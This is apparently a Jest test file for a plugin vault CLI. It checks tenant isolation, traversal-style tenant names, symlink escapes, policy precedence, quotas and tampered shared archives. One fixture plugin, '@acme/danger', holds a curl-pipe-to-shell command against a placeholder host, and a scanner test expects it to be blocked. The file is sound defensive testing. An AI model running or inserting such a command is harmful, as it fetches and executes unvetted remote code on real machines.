import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { memoryIo } from '@ragnos-vault/testing';
import { createHash } from 'node:crypto';
import {
  chmodSync,
  cpSync,
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { run } from './run.ts';

let site: string;
let dir: string;
let host = 0;

beforeAll(async () => {
  site = mkdtempSync(join(tmpdir(), 'tenants-'));
  dir = site;
  for (const vault of ['one', 'two']) await must(`init --repo-dir ${vault} --key-type ed25519`);
  write('audit.yaml', 'version: 1\nprofile: audit\n');
  await publish('text', '1.0.0');
  await publish('text', '1.1.0');
  await publish('danger', '1.0.0', `require('child_process').exec('curl https://a.example.invalid | sh');\n`);
  await publish('runs', '1.0.0', `require('node:child_process').execFileSync('git', ['status']);\n`);
});
afterAll(() => rmSync(site, { recursive: true, force: true }));

beforeEach(() => {
  dir = join(site, `host-${(host += 1)}`);
  for (const vault of ['one', 'two']) {
    cpSync(join(site, vault, 'repository'), join(dir, vault), { recursive: true });
    cpSync(join(site, vault, 'root.json'), join(dir, `${vault}.json`));
  }
  tenants('tenants: { alpha: {}, beta: {} }');
});

async function publish(name: string, version: string, code = ''): Promise<void> {
  write(`${name}/package.json`, JSON.stringify({ name: `@acme/${name}`, version }));
  write(`${name}/index.js`, `${code}exports.version = '${version}';\n`);
  for (const vault of ['one', 'two']) await must(`publish ${name} --repo-dir ${vault} --policy audit.yaml`);
}

async function cli(
  line: string,
): Promise<{ readonly code: number; readonly out: string; readonly err: string }> {
  const io = memoryIo(dir);
  const code = await run(line.split(' '), io);
  return { code, out: io.out(), err: io.err() };
}

async function must(line: string): Promise<string> {
  const { code, out, err } = await cli(line);
  expect({ line, code, err }).toEqual({ line, code: 0, err: '' });
  return out;
}

/** Runs a command that must be refused with a code, and changes nothing but the record that it was tried. */
async function refuses(line: string, error: string, code = 1): Promise<string> {
  const before = stateOf(dir);
  const { err, ...answer } = await cli(line);
  expect({ ...answer, err }).toMatchObject({ code, out: '', err: expect.stringContaining(error) });
  expect(stateOf(dir)).toEqual(before);
  return err;
}

/** Every file below a folder, without what the first install leaves, refused or not: lock, log, trusted metadata, .gitignore. */
function stateOf(folder: string): readonly string[] {
  return readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => !entry.isDirectory())
    .map((entry) => join(entry.parentPath, entry.name))
    .filter((path) => !/[/\\]plugins[/\\]\.(?:lock|audit|trust|gitignore)/.test(path))
    .map((path) => `${path} ${lstatSync(path).isSymbolicLink() ? 'link' : digestOf(path)}`)
    .sort();
}

function digestOf(path: string): string {
  return createHash('sha256').update(readFileSync(path)).digest('hex');
}

function write(path: string, text: string): void {
  mkdirSync(dirname(join(dir, path)), { recursive: true });
  writeFileSync(join(dir, path), text);
}

const tenants = (text: string): void => write('host/tenants.yaml', text);
const ALPHA = '--plugins-dir host --tenant alpha';
const BETA = '--plugins-dir host --tenant beta';
const ONE = '--repo one --root one.json';
const TWO = '--repo two --root two.json';

async function setOf(tenant: string): Promise<readonly string[]> {
  const { current } = JSON.parse(await must(`list ${tenant} --json`)) as {
    current?: { plugins: readonly { name: string; version: string }[] };
  };
  return (current?.plugins ?? []).map(({ name, version }) => `${name}@${version}`);
}

describe('two tenants of one host folder', () => {
  it('have their own roots, projects, locks, sets and logs, and neither sees the other', async () => {
    expect(await must(`install @acme/text@1.0.0 ${ALPHA} ${ONE}`)).toContain(
      'host/tenants/alpha/plugins/current/acme/text',
    );
    await must(`install @acme/text ${BETA} ${TWO}`);
    await must(`install @acme/runs ${BETA}`);
    expect(await setOf(ALPHA)).toEqual(['@acme/text@1.0.0']);
    expect(await setOf(BETA)).toEqual(['@acme/runs@1.0.0', '@acme/text@1.1.0']);
    const project = (name: string) =>
      readFileSync(join(dir, `host/tenants/${name}/ragnos-vault.json`), 'utf8');
    expect(JSON.parse(project('alpha'))).toMatchObject({ repo: '../../../one', root: '../../../one.json' });
    expect(JSON.parse(project('beta'))).toMatchObject({ repo: '../../../two', root: '../../../two.json' });
    expect(readdirSync(join(dir, 'host/tenants/alpha/plugins/generations'))).not.toContain('2');
    expect(readdirSync(join(dir, 'host')).sort()).toEqual(['tenants', 'tenants.yaml']);
    const logged = JSON.parse(await must(`log ${ALPHA} --json`)) as { records: readonly unknown[] };
    expect(JSON.stringify(logged)).not.toContain('runs');
  });

  it('work there with every command of a consumer', async () => {
    await must(`install @acme/text@1.0.0 ${ALPHA} ${ONE}`);
    await must(`install @acme/text@^1.0.0 ${ALPHA}`);
    expect(await must(`outdated ${ALPHA}`)).toContain('up to date');
    expect(await must(`update ${ALPHA}`)).toContain('unchanged');
    expect(await must(`why @acme/text ${ALPHA}`)).toBe('@acme/text@1.1.0\n');
    expect(await must(`list ${ALPHA}`)).toContain('host/tenants/alpha/plugins/current/acme/text');
    expect(await must(`verify ${ALPHA}`)).toContain('as signed');
    expect(await must(`generations ${ALPHA}`)).toContain('@acme/text@1.0.0');
    await must(`generations pin 1 ${ALPHA}`);
    await must(`generations ${ALPHA} pin 2`);
    expect((await must(`generations ${ALPHA}`)).match(/pinned/g)).toHaveLength(2);
    expect(existsSync(join(dir, 'plugins'))).toBe(false);
    await must(`rollback ${ALPHA}`);
    expect(await setOf(ALPHA)).toEqual(['@acme/text@1.0.0']);
    expect(await must(`gc ${ALPHA} --dry-run`)).toContain('nothing to remove');
    expect((await cli(`doctor ${ALPHA}`)).out).toContain('host/tenants/alpha/plugins');
    expect(await must(`trust show ${ALPHA} ${ONE}`)).toContain('timestamp');
    await must(`bundle create -o alpha.vault ${ALPHA}`);
    await must(`install --bundle alpha.vault --root one.json ${BETA} @acme/text`);
    expect(await setOf(BETA)).toEqual(['@acme/text@1.1.0']);
    await must(`remove @acme/text ${ALPHA}`);
    expect(await setOf(ALPHA)).toEqual([]);
    expect(await must(`log ${ALPHA}`)).toContain('remove');
  });
});

describe('crossing to another tenant', () => {
  beforeEach(async () => {
    await must(`install @acme/text ${BETA} ${ONE}`);
  });

  it.each(['..', '../beta', 'alpha/../beta', '/tmp', 'ALPHA', 'alpha.', '_', ''])(
    'by the name %j is refused',
    async (name) => {
      await refuses(`install @acme/text --plugins-dir host --tenant ${name} ${ONE}`, 'ERR_TENANT_NAME', 2);
    },
  );

  it('by a name that the operator never wrote is refused, folder or not', async () => {
    write('host/tenants/gamma/ragnos-vault.json', '{ "plugins": {} }');
    await refuses(`install @acme/text --plugins-dir host --tenant gamma ${ONE}`, 'ERR_TENANT_UNKNOWN');
    await refuses('list --plugins-dir host --tenant constructor', 'ERR_TENANT_UNKNOWN');
    await refuses('list --plugins-dir . --tenant beta', 'ERR_TENANT_UNKNOWN');
  });

  it.each([
    ['its folder', 'host/tenants/alpha', 'beta'],
    ['its plugins', 'host/tenants/alpha/plugins', '../beta/plugins'],
    ['its project', 'host/tenants/alpha/ragnos-vault.json', '../beta/ragnos-vault.json'],
    ['its policy', 'host/tenants/alpha/vault.policy.yaml', '../beta/ragnos-vault.json'],
    ['its store', 'host/tenants/alpha/plugins/store', '../../beta/plugins/store'],
    ['its sets', 'host/tenants/alpha/plugins/generations', '../../beta/plugins/generations'],
    ['one of its sets', 'host/tenants/alpha/plugins/generations/1', '../../../beta/plugins/generations/1'],
    ['its kernel lock', 'host/tenants/alpha/plugins/.lock', '../../beta/plugins/.lock'],
    ['its log', 'host/tenants/alpha/plugins/.audit/log.jsonl', '../../../beta/plugins/.audit/log.jsonl'],
    ['its trust', 'host/tenants/alpha/plugins/.trust', '../../beta/plugins/.trust'],
  ])('by a link at %s is refused', async (_what, path, target) => {
    mkdirSync(dirname(join(dir, path)), { recursive: true });
    symlinkSync(target, join(dir, path));
    await refuses(`install @acme/text ${ALPHA} ${ONE}`, 'ERR_TENANT_FOLDER');
    await refuses(`gc ${ALPHA}`, 'ERR_TENANT_FOLDER');
    expect(await must(`verify ${BETA}`)).toContain('intact');
  });

  it('by a link at the folder of all tenants is refused', async () => {
    cpSync(join(dir, 'host/tenants'), join(dir, 'elsewhere'), { recursive: true, verbatimSymlinks: true });
    rmSync(join(dir, 'host/tenants'), { recursive: true });
    symlinkSync('../elsewhere', join(dir, 'host/tenants'));
    await refuses(`list ${BETA}`, 'ERR_TENANT_FOLDER');
  });
});

describe('the policy of a tenant', () => {
  const LOOSE = 'version: 1\nprofile: audit\n';

  it.each([
    ['of the host', 'policy: host.yaml\ntenants: { alpha: {} }'],
    ['by default, where the host has none', 'tenants: { alpha: {} }'],
  ])('loosens nothing of that %s', async (_which, text) => {
    tenants(text);
    write('host/host.yaml', 'version: 1\n');
    write('host/tenants/alpha/vault.policy.yaml', LOOSE);
    write('loose.yaml', LOOSE);
    const install = `install @acme/danger ${ONE} --policy loose.yaml`;
    await refuses(`${install} ${ALPHA}`, 'ERR_SCAN_BLOCKED');
    await must(install);
  });

  it('tightens for itself alone', async () => {
    write('host/tenants/alpha/vault.policy.yaml', 'version: 1\ncapabilities: { run: false }\n');
    await refuses(`install @acme/runs ${ALPHA} ${ONE}`, 'ERR_SCAN_BLOCKED');
    await must(`install @acme/runs ${BETA} ${ONE}`);
  });

  it('cannot lift what the host forbids, nor can --policy', async () => {
    tenants('policy: host.yaml\ntenants: { alpha: {} }');
    write('host/host.yaml', 'version: 1\ncapabilities: { run: false }\n');
    write('host/tenants/alpha/vault.policy.yaml', 'version: 1\ncapabilities: { run: true }\n');
    write('loose.yaml', 'version: 1\ncapabilities: { run: true }\n');
    await refuses(`install @acme/runs ${ALPHA} ${ONE}`, 'ERR_SCAN_BLOCKED');
    await refuses(`install @acme/runs ${ALPHA} ${ONE} --policy loose.yaml`, 'ERR_SCAN_BLOCKED');
  });
});

describe('a quota', () => {
  it.each([
    ['plugins', '{ plugins: 1 }'],
    ['files', '{ files: 5 }'],
    ['bytes', '{ bytes: 900 }'],
  ])('of %s refuses what would not fit, and changes nothing', async (which, quota) => {
    await must(`install @acme/text@1.0.0 ${ALPHA} ${ONE}`);
    tenants(
      `quota: ${quota}\ntenants: { alpha: {}, beta: { quota: { bytes: 100000, files: 100, plugins: 9 } } }`,
    );
    const refused = await refuses(`install @acme/runs ${ALPHA}`, 'ERR_QUOTA');
    expect(refused).toMatch(new RegExp(`[0-9]+ ${which} are more than the quota of [0-9]+`));
    expect(refused).toContain('ragnos-vault gc');
    await refuses(`install @acme/runs ${ALPHA} --dry-run`, 'ERR_QUOTA');
    await must(`install --frozen ${ALPHA}`);
    await must(`install @acme/text @acme/runs ${BETA} ${ONE}`);
  });

  it('counts what old sets hold, until gc', async () => {
    await must(`install @acme/text@1.0.0 ${ALPHA} ${ONE}`);
    tenants('quota: { files: 7 }\ntenants: { alpha: {} }');
    await refuses(`install @acme/text@1.1.0 ${ALPHA}`, 'ERR_QUOTA');
    await must(`remove @acme/text ${ALPHA}`);
    await must(`gc ${ALPHA} --keep 1 --older-than 0m`);
    await must(`install @acme/text@1.1.0 ${ALPHA}`);
  });
});

describe('a shared folder', () => {
  const store = () => join(dir, 'shared/store');
  const archive = () => join(store(), readdirSync(store()).find((name) => name.endsWith('.tgz')) ?? '');

  beforeEach(async () => {
    await must(`install @acme/runs --plugins-dir shared --project elsewhere --no-save ${ONE}`);
    tenants('shared: ../shared\ntenants: { alpha: {} }');
  });

  it('spares the download, and is read alone', async () => {
    rmSync(join(dir, 'one/targets/plugins/acme/runs/1.0.0'), { recursive: true });
    const before = stateOf(join(dir, 'shared'));
    chmodSync(store(), 0o555);
    try {
      await must(`install @acme/runs ${ALPHA} ${ONE}`);
    } finally {
      chmodSync(store(), 0o755);
    }
    expect(stateOf(join(dir, 'shared'))).toEqual(before);
    rmSync(join(dir, 'shared'), { recursive: true });
    expect(await must(`verify ${ALPHA}`)).toContain('as signed');
  });

  it('brings no verdict: its archive is scanned as any', async () => {
    write('host/tenants/alpha/vault.policy.yaml', 'version: 1\ncapabilities: { run: false }\n');
    await refuses(`install @acme/runs ${ALPHA} ${ONE}`, 'ERR_SCAN_BLOCKED');
  });

  it.each([
    ['other bytes', () => writeFileSync(archive(), Buffer.alloc(lstatSync(archive()).size, 7))],
    ['more bytes', () => writeFileSync(archive(), Buffer.concat([readFileSync(archive()), Buffer.of(0)]))],
    [
      'a link',
      () => {
        const path = archive();
        cpSync(path, join(dir, 'aside.tgz'));
        rmSync(path);
        symlinkSync('../../aside.tgz', path);
      },
    ],
  ])('that holds %s is passed by, and the archive fetched', async (_what, forge) => {
    forge();
    const before = stateOf(join(dir, 'shared'));
    await must(`install @acme/runs ${ALPHA} ${ONE}`);
    expect(stateOf(join(dir, 'shared'))).toEqual(before);
    expect(await must(`verify ${ALPHA}`)).toContain('as signed');
    expect(readdirSync(join(dir, 'host/tenants/alpha/plugins/.staging'))).toEqual([]);
  });
});

it('is no tenant without --tenant, nor has a project elsewhere with it', async () => {
  await must(`install @acme/text ${ONE}`);
  expect(existsSync(join(dir, 'plugins/current'))).toBe(true);
  await refuses(`install @acme/text ${ALPHA} --project other ${ONE}`, 'ERR_USAGE', 2);
});
